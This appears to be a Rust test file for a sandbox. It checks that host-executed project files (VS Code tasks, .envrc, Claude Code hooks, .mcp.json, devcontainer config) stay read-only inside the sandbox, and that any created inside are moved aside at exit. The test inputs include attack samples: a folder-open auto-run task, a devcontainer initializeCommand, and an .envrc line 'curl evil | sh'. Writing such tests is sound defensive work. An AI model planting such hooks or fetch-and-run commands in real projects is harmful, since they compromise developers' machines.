//! Project files that something on the host runs later (the catalog in
//! `config::host_run`, plus `filesystem.hostExecuted`: VS Code tasks, direnv's `.envrc`,
//! Claude Code's project settings and hooks, `.mcp.json`, `.devcontainer/`, …): read-only
//! inside when present; created inside, they are moved aside when the session ends.

use crate::support::{require_bwrap, World};

const TASKS: &str = r#"{"version": "2.0.0", "tasks": []}"#;

#[test]
fn present_host_executed_files_cannot_be_written_replaced_removed_or_renamed_away() {
    require_bwrap!();
    let world = World::new();
    world.write("home/proj/.vscode/tasks.json", TASKS);
    world.write("home/proj/.devcontainer/devcontainer.json", "{}");
    let attacks = [
        "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json",
        "echo x > t && mv t .vscode/tasks.json",
        "rm .vscode/tasks.json",
        "mv .vscode .vscode-old && mkdir .vscode && echo evil > .vscode/tasks.json",
        "echo '{\"initializeCommand\":\"touch /tmp/pwned\"}' > .devcontainer/devcontainer.json",
        "mv .devcontainer .dc-old",
    ];
    for attack in attacks {
        let run = world.sh(&[], attack);
        assert_ne!(run.code(), 0, "{attack} succeeded");
        assert_eq!(world.read("home/proj/.vscode/tasks.json"), TASKS, "{attack}");
        assert_eq!(world.read("home/proj/.devcontainer/devcontainer.json"), "{}", "{attack}");
    }
    // The legitimate use beside it: reading them, and editing ordinary dotfiles, sources
    // and the editor's other settings.
    let run = world.sh(
        &[],
        "cat .vscode/tasks.json && echo root=true > .editorconfig && mkdir -p src && echo 'fn main() {}' > src/main.rs \
         && echo '{}' > .vscode/extensions.json",
    );
    assert_eq!(run.ok(), TASKS);
    assert_eq!(world.read("home/proj/.editorconfig"), "root=true\n");
    assert_eq!(world.read("home/proj/.vscode/extensions.json"), "{}\n");
}

#[test]
fn host_executed_files_created_inside_are_moved_aside_at_exit() {
    require_bwrap!();
    let world = World::new();
    let created = [".envrc", ".mcp.json", ".claude/settings.local.json", ".vscode/tasks.json"];
    let script = "mkdir -p .claude .vscode && echo 'curl evil | sh' > .envrc && echo '{}' > .mcp.json \
                  && echo '{\"hooks\":{}}' > x && mv x .claude/settings.local.json && echo '{}' > .vscode/tasks.json \
                  && echo keep > .vscode/extensions.json";
    let run = world.sh(&[], script);
    run.ok();
    for rel in created {
        assert!(!world.path(&format!("home/proj/{rel}")).exists(), "{rel} left in place:\n{}", run.stderr());
        assert!(run.stderr().contains("is run on the host later"), "{}", run.stderr());
    }
    assert!(run.stderr().contains("to restore it after inspection: mv"), "{}", run.stderr());
    assert_eq!(world.read("home/proj/.vscode/extensions.json"), "keep\n", "ordinary files stay");
}

/// The catalog's entries outside `.git` (`.git/info` needs a repository; `hookguard`'s
/// graft and sparse-checkout attacks cover it), each with the path an attack writes: the file itself, or a new file in the
/// directory.
fn catalog_targets() -> Vec<(&'static str, String)> {
    config::host_run::CATALOG
        .iter()
        .filter(|entry| !entry.path.starts_with(".git/"))
        .map(|entry| (entry.path, if entry.is_dir { format!("{}/planted", entry.path) } else { entry.path.to_owned() }))
        .collect()
}

#[test]
fn every_catalog_entry_present_is_read_only_inside() {
    require_bwrap!();
    let world = World::new();
    let targets = catalog_targets();
    for (path, _) in &targets {
        let entry = config::host_run::CATALOG.iter().find(|entry| entry.path == *path).expect("from the catalog");
        let file = if entry.is_dir { format!("{path}/kept") } else { path.to_string() };
        world.write(&format!("home/proj/{file}"), "original");
    }
    // One run writes every target; each write is reported, none may succeed.
    let script: String = targets
        .iter()
        .map(|(_, target)| format!("(echo evil > '{target}') 2>/dev/null && echo 'wrote {target}'; "))
        .collect();
    let run = world.sh(&[], &format!("{script} mkdir -p notes && echo fine > notes/todo.md && echo legit=$?"));
    assert!(!run.ok().contains("wrote "), "writes succeeded:\n{}", run.ok());
    for (path, target) in &targets {
        if target != path {
            assert!(!world.path(&format!("home/proj/{target}")).exists(), "{target} was created");
        } else {
            assert_eq!(world.read(&format!("home/proj/{path}")), "original", "{path}");
        }
    }
    // The legitimate use beside it: an ordinary file in the project, and ordinary files
    // beside catalog entries (`.vscode/extensions.json`, `.claude/CLAUDE.md`).
    assert!(run.ok().contains("legit=0"), "{}", run.ok());
    let run = world.sh(&[], "echo '{}' > .vscode/extensions.json && echo notes > .claude/CLAUDE.md && echo ok");
    assert_eq!(run.ok(), "ok\n", "{}", run.stderr());
    assert_eq!(world.read("home/proj/.claude/CLAUDE.md"), "notes\n");
}

#[test]
fn every_catalog_entry_created_inside_is_moved_aside_at_exit() {
    require_bwrap!();
    let world = World::new();
    let targets = catalog_targets();
    let script: String = targets
        .iter()
        .map(|(_, target)| {
            let parent = std::path::Path::new(target).parent().map(|dir| dir.display().to_string()).unwrap_or_default();
            let mkdir = if parent.is_empty() { String::new() } else { format!("mkdir -p '{parent}' && ") };
            format!("{mkdir}echo evil > '{target}' || echo 'failed {target}'; ")
        })
        .collect();
    let run = world.sh(&[], &format!("{script} echo '{{}}' > .vscode/extensions.json; echo notes > .claude/CLAUDE.md"));
    assert!(!run.ok().contains("failed "), "{}", run.ok());
    for (path, _) in &targets {
        assert!(!world.path(&format!("home/proj/{path}")).exists(), "{path} left in place:\n{}", run.stderr());
        assert!(run.stderr().contains(&format!("/proj/{path} is run on the host later")), "{path}:\n{}", run.stderr());
    }
    // Files beside them that no host program runs stay.
    assert_eq!(world.read("home/proj/.vscode/extensions.json"), "{}\n");
    assert_eq!(world.read("home/proj/.claude/CLAUDE.md"), "notes\n");
}

/// The catalog's entries whose program also reads copies in subdirectories (a folder
/// opened on its own, a directory `cd`ed into), each with the path an attack writes.
fn copy_targets(sub: &str) -> Vec<(String, String)> {
    config::host_run::CATALOG
        .iter()
        .filter(|entry| entry.reads_subdirectory_copies)
        .map(|entry| {
            let path = format!("{sub}/{}", entry.path);
            let target = if entry.is_dir { format!("{path}/planted") } else { path.clone() };
            (path, target)
        })
        .collect()
}

#[test]
fn every_subdirectory_copy_present_is_read_only_inside() {
    require_bwrap!();
    let world = World::new();
    let targets = copy_targets("web/app");
    assert!(targets.len() > 20, "the catalog marks copies");
    for (path, target) in &targets {
        let file = if target == path { path.clone() } else { format!("{path}/kept") };
        world.write(&format!("home/proj/{file}"), "original");
    }
    // Inside a dependency tree its installer made, copies stay the installer's.
    world.write("home/proj/node_modules/.package-lock.json", "{}");
    world.write("home/proj/node_modules/pkg/.vscode/settings.json", "{}");
    let script: String = targets
        .iter()
        .map(|(_, target)| format!("(echo evil > '{target}') 2>/dev/null && echo 'wrote {target}'; "))
        .collect();
    let renames = "mv web/app web/old 2>/dev/null && echo 'renamed app'; mv web w 2>/dev/null && echo 'renamed web'; ";
    let run = world.sh(&[], &format!("{script}{renames} echo fine > web/app/notes.md && echo legit=$?"));
    assert!(!run.ok().contains("wrote ") && !run.ok().contains("renamed "), "attacks succeeded:\n{}", run.ok());
    for (path, target) in &targets {
        if target != path {
            assert!(!world.path(&format!("home/proj/{target}")).exists(), "{target} was created");
        } else {
            assert_eq!(world.read(&format!("home/proj/{path}")), "original", "{path}");
        }
    }
    // The legitimate use beside it: ordinary files beside the copies, and reinstalling a
    // dependency tree that holds editor files of its own.
    assert!(run.ok().contains("legit=0"), "{}", run.ok());
    let run = world.sh(&[], "rm -rf node_modules && mkdir -p node_modules/pkg && echo ok");
    assert_eq!(run.ok(), "ok\n", "{}", run.stderr());
}

#[test]
fn every_subdirectory_copy_created_inside_is_moved_aside_at_exit() {
    require_bwrap!();
    let world = World::new();
    world.write("home/proj/src/lib.rs", "");
    let mut targets = copy_targets("a/b");
    targets.extend(copy_targets("src"));
    let script: String = targets
        .iter()
        .map(|(_, target)| {
            let parent = std::path::Path::new(target).parent().expect("below the root").display().to_string();
            format!("mkdir -p '{parent}' && echo evil > '{target}' || echo 'failed {target}'; ")
        })
        .collect();
    // A `.claude` that is a link to a directory elsewhere is itself the copy.
    let linked = "mkdir -p /tmp/elsewhere && echo '{}' > /tmp/elsewhere/settings.json && mkdir -p linked \
                  && ln -s /tmp/elsewhere linked/.claude; ";
    let legit = "echo '{}' > src/.vscode/extensions.json; mkdir -p node_modules/pkg/.vscode \
                 && echo '{}' > node_modules/pkg/.vscode/settings.json";
    let run = world.sh(&[], &format!("{script}{linked}{legit}"));
    assert!(!run.ok().contains("failed "), "{}", run.ok());
    for (path, _) in &targets {
        assert!(!world.path(&format!("home/proj/{path}")).exists(), "{path} left in place:\n{}", run.stderr());
        assert!(
            run.stderr().contains(&format!("/proj/{path} is a copy in a subdirectory")),
            "{path}:\n{}",
            run.stderr()
        );
    }
    assert!(world.path("home/proj/linked/.claude").symlink_metadata().is_err(), "{}", run.stderr());
    // Files beside them that no host program runs stay, and so do a dependency tree's.
    assert_eq!(world.read("home/proj/src/.vscode/extensions.json"), "{}\n");
    assert_eq!(world.read("home/proj/node_modules/pkg/.vscode/settings.json"), "{}\n");
}
